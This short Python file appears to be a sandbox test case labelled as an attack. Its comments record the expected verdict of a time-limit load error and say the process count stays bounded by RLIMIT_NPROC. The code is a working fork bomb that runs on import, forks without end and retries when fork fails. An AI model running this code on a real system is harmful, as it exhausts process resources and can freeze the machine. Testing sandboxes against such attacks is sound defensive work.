# ATTACK: a fork bomb at import: every process forks for ever; when fork fails it waits a little
# and tries again, so the processes it got stay alive.
# VERDICT: load_error (time limit); the number of processes stays bounded by RLIMIT_NPROC of the
# slot uid (64 more than it had) and none is left after the run.
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
